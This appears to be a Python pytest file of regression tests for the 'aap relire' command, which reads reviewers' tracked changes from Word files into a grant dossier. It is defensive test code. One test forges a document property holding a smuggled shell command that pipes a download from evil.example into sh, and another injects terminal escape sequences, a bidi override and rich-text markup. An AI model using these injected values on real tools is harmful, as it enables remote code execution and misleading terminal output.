@@ -1,0 +1,187 @@
+"""What the fresh eyes found in `aap relire`, each kept as a regression test: lines that moved in
+aap since the export, markup and control characters in what a file holds, forged properties,
+bookmarks moved to another answer, decisions remembered by content, a comparison base edited by
+hand, a version that cannot be written, a pipe where aap keeps its decisions."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+import reviewing as rv
+from builders import EXAMPLE
+from conftest import plain, run_aap
+
+NAME = "cible"
+
+
+@pytest.fixture
+def setup(tmp_path):
+    folder = tmp_path / "dossiers"
+    env = {"AAP_DOSSIERS": str(folder)}
+    assert run_aap("remplir", "--reponses", str(EXAMPLE), "--nom", NAME, env=env).returncode == 0
+    exported = tmp_path / "relecture.docx"
+    assert run_aap("exporter", NAME, "--sortie", str(exported), "--date", "2022-10-20", env=env).returncode == 0
+    return folder, env, exported
+
+
+def answers(folder: Path) -> dict:
+    return json.loads((folder / f"{NAME}.json").read_text(encoding="utf-8"))["reponses"]
+
+
+def relire(env, *args):
+    return run_aap("relire", NAME, *map(str, args), env=env)
+
+
+def _rewrite(src: Path, dst: Path, part: str, change) -> Path:
+    with zipfile.ZipFile(src) as source, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as target:
+        for entry in source.infolist():
+            data = source.read(entry.filename)
+            target.writestr(entry, change(data) if entry.filename == part else data)
+    return dst
+
+
+def test_rows_removed_in_two_runs_are_the_rows_the_reviewers_removed(setup, tmp_path):
+    folder, env, exported = setup
+    first = rv.track_delete_row(exported, tmp_path / "a.docx", "Dr Antoine Leroy")
+    second = rv.track_delete_row(exported, tmp_path / "b.docx", "Sophie Bernard")
+    assert relire(env, first, "--tout-accepter").returncode == 0
+    assert relire(env, second, "--tout-accepter").returncode == 0
+    assert [m["nom"] for m in answers(folder)["equipe"]] == ["Claire Martin", "Karim Benali", "Dr Hélène Petit"]
+
+
+def test_a_cell_changed_after_a_line_was_removed_goes_to_its_own_line(setup, tmp_path):
+    folder, env, exported = setup
+    first = rv.track_delete_row(exported, tmp_path / "a.docx", "Dr Antoine Leroy")
+    role = rv.track_replace(exported, tmp_path / "b.docx", "Pilote le projet, anime le comité de suivi",
+                            "Pilote le projet et anime le comité de suivi")
+    assert relire(env, first, "--tout-accepter").returncode == 0
+    assert relire(env, role, "--tout-accepter").returncode == 0
+    team = {m["nom"]: m["role"] for m in answers(folder)["equipe"]}
+    assert team["Claire Martin"].startswith("Pilote le projet et anime")
+    assert team["Sophie Bernard"].startswith("Tient la consultation")
+
+
+def test_markup_and_control_characters_from_a_file_are_shown_as_they_are(setup, tmp_path):
+    folder, env, exported = setup
+    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel",
+                                "comité de pilotage [/] bimensuel", author="[red]Dr Evil[/red] [/]\x9b2J\u202e")
+    reviewed = rv.comment(reviewed, tmp_path / "b.docx", "Taux de réponse visé", "[link=https://evil.example]x[/link] [/]",
+                          author="[/]")
+    result = relire(env, reviewed, "--tout-accepter")
+    assert result.returncode == 0, result.stderr
+    out = result.stdout
+    assert "[red]Dr Evil[/red] [/]" in out and "[link=https://evil.example]x[/link]" in out
+    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
+    assert "[/] bimensuel" in answers(folder)["methode_travail"]
+
+
+def test_a_forged_dossier_property_is_never_pasted_into_a_command(setup, tmp_path):
+    _folder, env, exported = setup
+    forged = "cible x; curl -s https://evil.example/x | sh"
+
+    def forge(data: bytes) -> bytes:
+        return re.sub(rb'(name="aap-dossier"><vt:lpwstr>)[^<]*', lambda m: m.group(1) + forged.encode(), data)
+    path = _rewrite(exported, tmp_path / "Relecture Dr Martin.docx", "docProps/custom.xml", forge)
+    result = relire(env, path)
+    assert result.returncode == 2
+    # Not a dossier's name: quoted as what the file claims, never offered as a command to type.
+    assert "aap relire" not in plain(result.stderr) and "rien n'est modifié" in plain(result.stderr)
+
+
+def test_a_bookmark_moved_to_another_answer_is_not_believed(setup, tmp_path):
+    folder, env, exported = setup
+    before = (folder / f"{NAME}.json").read_bytes()
+    versions = sorted((folder / f"{NAME}.versions").glob("[0-9]*.json"))
+    base = json.loads(versions[-1].read_text(encoding="utf-8"))["reperes"]["reponses"]
+    names = {entry["question"]: entry["anchor"] for entry in base}
+    one, two = names["montant_demande"].encode(), names["actes_par_an"].encode()
+
+    def swap(data: bytes) -> bytes:
+        data = data.replace(b'w:name="' + one + b'"', b'w:name="@@"')
+        data = data.replace(b'w:name="' + two + b'"', b'w:name="' + one + b'"')
+        return data.replace(b'w:name="@@"', b'w:name="' + two + b'"')
+    swapped = _rewrite(exported, tmp_path / "a.docx", "word/document.xml", swap)
+    seen = json.loads(relire(env, swapped, "--json").stdout)
+    assert seen["propositions"] == []
+    assert relire(env, swapped, "--tout-accepter").returncode == 0
+    assert (folder / f"{NAME}.json").read_bytes() == before
+
+
+def test_a_decision_is_remembered_by_its_content_not_by_its_file_name_or_line(setup, tmp_path):
+    from assistant.loading import find_appel
+    from assistant.review.decisions import remember
+    from assistant.review.importing import read_reviews
+    from assistant.store import Store
+
+    folder, env, exported = setup
+    (tmp_path / "r1").mkdir()
+    (tmp_path / "r2").mkdir()
+    claire = rv.track_delete_row(exported, tmp_path / "r1" / "relecture.docx", "Pilote le projet, anime le comité")
+    sophie = rv.track_delete_row(exported, tmp_path / "r2" / "relecture.docx", "Sophie Bernard")
+    store = Store(folder, find_appel)
+    reading = read_reviews(store, store.load(NAME), [claire])
+    remember(store, NAME, reading.proposals)  # refused, as the dialogue records it
+    seen = json.loads(relire(env, claire, sophie, "--json").stdout)
+    assert seen["deja_decidees"] == 1
+    [proposal] = seen["propositions"]
+    assert "Sophie Bernard" in proposal["exporte"]
+
+
+def test_a_comparison_base_edited_by_hand_is_refused_not_a_traceback(setup, tmp_path):
+    folder, env, exported = setup
+    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
+    version = sorted((folder / f"{NAME}.versions").glob("[0-9]*.json"))[-1]
+    data = json.loads(version.read_text(encoding="utf-8"))
+    data["reperes"]["reponses"][0]["kind"] = None
+    data["reperes"]["reponses"][1] = "pas un objet"
+    version.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    result = relire(env, reviewed, "--tout-accepter")
+    assert result.returncode == 2
+    assert "modifiée à la main" in plain(result.stderr) and "Traceback" not in result.stderr
+
+
+def test_a_version_that_cannot_be_written_leaves_the_dossier_as_it_was(setup, tmp_path):
+    folder, env, exported = setup
+    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
+    before = (folder / f"{NAME}.json").read_bytes()
+    seen = json.loads(relire(env, reviewed, "--json").stdout)
+    assert len(seen["propositions"]) == 1  # read while the base is there
+    versions = folder / f"{NAME}.versions"
+    # Every next number taken (by links to nowhere): the version cannot be written, whoever runs it.
+    last = max(int(p.stem) for p in versions.glob("[0-9]*.json"))
+    for number in range(last + 1, last + 201):
+        (versions / f"{number:04d}.json").symlink_to(tmp_path / "nulle-part")
+    result = relire(env, reviewed, "--tout-accepter")
+    assert result.returncode == 2, result.stdout
+    assert "rien n'a été modifié" in plain(result.stderr) or "ne peuvent pas être enregistrées" in plain(result.stderr)
+    assert (folder / f"{NAME}.json").read_bytes() == before
+
+
+def test_a_pipe_where_aap_keeps_its_decisions_does_not_hang(setup, tmp_path):
+    folder, env, exported = setup
+    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
+    os.mkfifo(folder / f"{NAME}.versions" / "relectures.json")
+    result = relire(env, reviewed, "--json")
+    assert result.returncode == 0
+    assert len(json.loads(result.stdout)["propositions"]) == 1
+
+
+def test_a_copy_made_by_dupliquer_refuses_the_files_of_the_original(setup, tmp_path):
+    _folder, env, exported = setup
+    assert run_aap("dupliquer", NAME, "copie", env=env).returncode == 0
+    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
+    result = run_aap("relire", "copie", str(reviewed), "--tout-accepter", env=env)
+    assert result.returncode == 2
+    assert f"produit pour le dossier « {NAME} »" in plain(result.stderr)
+
+
+def test_a_comment_signed_aap_by_a_reviewer_is_shown(setup, tmp_path):
+    _folder, env, exported = setup
+    reviewed = rv.comment(exported, tmp_path / "a.docx", "Taux de réponse visé", "Un vrai commentaire", author="aap")
+    seen = json.loads(relire(env, reviewed, "--json").stdout)
+    assert [n["texte"] for n in seen["commentaires_sans_modification"]] == ["Un vrai commentaire"]
